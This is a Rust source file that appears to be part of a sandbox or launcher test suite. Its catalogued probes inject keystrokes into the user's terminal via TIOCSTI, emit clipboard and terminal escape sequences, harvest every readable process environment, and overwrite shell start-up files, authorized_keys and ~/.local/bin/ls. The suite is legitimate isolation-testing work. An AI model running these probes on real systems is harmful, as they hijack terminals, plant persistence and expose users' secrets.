//! What a launcher leaves: descriptors, terminal, environment, settings of the process.

use std::fs;
use std::io::{Read, Write};
use std::os::fd::AsRawFd;
use std::process::ExitCode;

use super::out::{argument, attempt, note, number, reached, read, result};
use super::sys::{self, Arg, call};

/// By the ids of the catalogue.
pub const ATTACKS: super::Table = &[
    ("SD01", descriptors),
    ("SD02", reopen_streams),
    ("SD03", push_input),
    ("SD04", obeyed_output),
    ("SD05", environment),
    ("SD06", left_at_home),
    ("SD07", posture),
    ("SD08", directory),
    ("SD09", stop_signals),
    ("SD12", identity),
];

/// Everything beyond the standard streams.
fn descriptors(_: &[String]) {
    for number in 3..1024 {
        let Ok(copy) = sys::duplicate(number) else {
            continue;
        };
        let target = fs::read_link(format!("/proc/self/fd/{}", copy.as_raw_fd())).unwrap_or_default();
        reached(format!("descriptor {number}: {}", target.display()));
        if fs::metadata(&target).is_ok_and(|found| found.is_file()) {
            result(
                "open file",
                fs::read(format!("/proc/self/fd/{}", copy.as_raw_fd())),
            );
        }
        result(
            "beside it",
            fs::read(format!("/proc/self/fd/{}/secret", copy.as_raw_fd())),
        );
    }
}

/// A stream that is a file of the host could be opened anew, with more rights.
fn reopen_streams(_: &[String]) {
    for number in 0..3 {
        let path = format!("/proc/self/fd/{number}");
        let mut text = String::new();
        let opened = fs::OpenOptions::new().read(true).write(true).open(&path);
        match opened {
            Ok(mut file) if file.metadata().is_ok_and(|found| found.is_file()) => {
                let _ = file.read_to_string(&mut text);
                let _ = file.set_len(0).and_then(|()| file.write_all(b"overwritten"));
                reached(format!("stream {number} is a file: {text}"));
            }
            other => note(format!("stream {number}: {other:?}")),
        }
    }
}

/// Types into the terminal that the user sits at.
fn push_input(arguments: &[String]) {
    const PUSH: i64 = libc::TIOCSTI as i64;
    let text = format!("{}\n", argument(arguments, 0));
    let terminal = fs::OpenOptions::new().read(true).write(true).open("/dev/tty");
    let descriptors = [
        Some(0),
        Some(1),
        Some(2),
        terminal.as_ref().ok().map(|file| file.as_raw_fd()),
    ];
    for descriptor in descriptors.into_iter().flatten() {
        let mut done = 0;
        for byte in text.bytes() {
            let mut one = [byte];
            done += i32::from(
                call(
                    libc::SYS_ioctl,
                    &mut [
                        Arg::Int(i64::from(descriptor)),
                        Arg::Int(PUSH),
                        Arg::Bytes(&mut one),
                    ],
                )
                .is_ok(),
            );
        }
        note(format!("descriptor {descriptor}: pushed {done}"));
        // TIOCLINUX: paste the selection of a console; and take the terminal over.
        for request in [0x541C, 0x540E] {
            let mut subcode = [3_u8; 8];
            let _ = call(
                libc::SYS_ioctl,
                &mut [
                    Arg::Int(i64::from(descriptor)),
                    Arg::Int(request),
                    Arg::Bytes(&mut subcode),
                ],
            );
        }
    }
}

/// Every environment that can be read.
fn environment(_: &[String]) {
    for (name, value) in std::env::vars() {
        read(format!("{name}={value}").as_bytes());
    }
    for entry in fs::read_dir("/proc").into_iter().flatten().flatten() {
        if let Ok(bytes) = fs::read(entry.path().join("environ")) {
            read(&bytes);
        }
        if let Ok(bytes) = fs::read(entry.path().join("cmdline")) {
            read(&bytes);
        }
    }
}

/// Everything that a terminal does beyond showing text, with what a person may see between.
fn obeyed_output(arguments: &[String]) {
    let token = argument(arguments, 0);
    println!(
        "\x1b]52;c;ZXZpbA==\x07\x1b]2;title\x07\x1b]0;title\x07\x1b]8;;http://example.invalid\x1b\\link\x1b]8;;\x1b\\\
         \x1b]1337;File=name=eA==:eA==\x07\x1b]777;notify;a;b\x07\x1bP$qm\x1b\\\x05\x1b[201~"
    );
    println!("plain {token}");
}

/// Start-up files of the home directory.
fn left_at_home(_: &[String]) {
    let home = std::env::var("HOME").unwrap_or_default();
    for name in [
        ".bashrc",
        ".profile",
        ".zshenv",
        ".gitconfig",
        ".config/git/config",
        ".config/systemd/user/any.service",
        ".config/autostart/any.desktop",
        ".npmrc",
        ".pythonrc",
        ".ssh/authorized_keys",
        ".local/bin/ls",
    ] {
        let path = std::path::Path::new(&home).join(name);
        let made = path.parent().map_or(Ok(()), fs::create_dir_all);
        attempt(path.display(), made.and_then(|()| fs::write(&path, "evil\n")));
    }
}

/// What the process inherited beside files and variables, by calls: there may be no procfs.
fn posture(_: &[String]) {
    let mask = call(libc::SYS_umask, &mut [Arg::Int(0o22)]).unwrap_or(-1);
    println!("Umask: {mask:04o}");
    let mut blocked = [0_u8; 8];
    let mut words = [Arg::Int(0), Arg::Null, Arg::Bytes(&mut blocked), Arg::Int(8)];
    let _ = call(libc::SYS_rt_sigprocmask, &mut words);
    println!("Blocked: {:x}", u64::from_ne_bytes(blocked));
    // The runtime of Rust itself ignores SIGPIPE.
    let ignored = (1..=64).filter(|signal| *signal != i64::from(libc::SIGPIPE) && is_ignored(*signal));
    println!("Ignored: {}", ignored.count());
    let nice = call(libc::SYS_getpriority, &mut [Arg::Int(0), Arg::Int(0)]).unwrap_or(0);
    println!("Nice: {}", 20 - nice);
    let personality = call(libc::SYS_personality, &mut [Arg::Int(0xffff_ffff)]).unwrap_or(-1);
    println!("Personality: {personality}");
    println!("Open files: {}", soft_limit(i64::from(libc::RLIMIT_NOFILE)));
    println!("Core: {}", soft_limit(i64::from(libc::RLIMIT_CORE)));
}

fn is_ignored(signal: i64) -> bool {
    const IGNORE: u64 = 1;
    let mut action = [0_u8; 32];
    let mut words = [Arg::Int(signal), Arg::Null, Arg::Bytes(&mut action), Arg::Int(8)];
    let told = call(libc::SYS_rt_sigaction, &mut words).is_ok();
    let mut handler = [0_u8; 8];
    handler.copy_from_slice(&action[..8]);
    told && u64::from_ne_bytes(handler) == IGNORE
}

fn soft_limit(resource: i64) -> u64 {
    let mut limits = [0_u8; 16];
    let mut words = [
        Arg::Int(0),
        Arg::Int(resource),
        Arg::Null,
        Arg::Bytes(&mut limits),
    ];
    let _ = call(libc::SYS_prlimit64, &mut words);
    let mut soft = [0_u8; 8];
    soft.copy_from_slice(&limits[..8]);
    u64::from_ne_bytes(soft)
}

/// A directory that is not below the root begins with "(unreachable)", and leads up to the host's root.
fn directory(arguments: &[String]) {
    let path = argument(arguments, 0).trim_start_matches('/');
    let mut name = [0_u8; 4096];
    let told = call(libc::SYS_getcwd, &mut [Arg::Bytes(&mut name), Arg::Int(4096)]);
    let text = String::from_utf8_lossy(&name);
    let text = text.trim_end_matches('\0');
    match told {
        Ok(_) if !text.starts_with('/') => reached(text),
        other => note(format!("{text}: {other:?}")),
    }
    result("upwards", fs::read(format!("{}{path}", "../".repeat(64))));
}

/// Signals to the group of this process, and to all that it may signal.
fn stop_signals(_: &[String]) {
    let sent = [libc::SIGUSR1, libc::SIGTERM, libc::SIGWINCH];
    sent.into_iter().for_each(sys::ignore);
    for signal in sent {
        let signal = i64::from(signal);
        attempt(
            signal,
            call(libc::SYS_kill, &mut [Arg::Int(0), Arg::Int(signal)]).map(drop),
        );
    }
}

/// What names the host and its user.
fn identity(_: &[String]) {
    let name = rustix::system::uname();
    println!("node {}", name.nodename().to_string_lossy());
    println!("domain {}", name.domainname().to_string_lossy());
    for (name, value) in std::env::vars() {
        println!("{name}={value}");
    }
    let own = rustix::process::getuid().as_raw();
    println!("id {own}");
    for path in ["/proc/self/auxv", "/proc/self/loginuid", "/proc/self/environ"] {
        result(path, fs::read(path));
    }
    println!(
        "program {}",
        std::env::current_exe().unwrap_or_default().display()
    );
}

/// Small things that tests ask for: `exit N`, `signal N`, `echo`, `wait`, `socket`.
pub fn act(arguments: &[String]) -> ExitCode {
    match argument(arguments, 0) {
        "exit" => return ExitCode::from(u8::try_from(number(arguments, 1)).unwrap_or(255)),
        "signal" => {
            let signal = number(arguments, 1);
            sys::reset(i32::try_from(signal).unwrap_or(9));
            let own = i64::from(std::process::id());
            let _ = call(libc::SYS_kill, &mut [Arg::Int(own), Arg::Int(signal)]);
        }
        "echo" => {
            let copied = std::io::copy(&mut std::io::stdin().lock(), &mut std::io::stdout().lock());
            return if copied.is_ok() {
                ExitCode::SUCCESS
            } else {
                ExitCode::FAILURE
            };
        }
        // Longer than anybody looks at it.
        "wait" => std::thread::sleep(std::time::Duration::from_secs(120)),
        "socket" => match std::os::unix::net::UnixListener::bind("own-socket") {
            Ok(_) => return ExitCode::SUCCESS,
            Err(error) => eprintln!("attack: socket: {error}"),
        },
        other => eprintln!("attack: do what? {other}"),
    }
    ExitCode::FAILURE
}
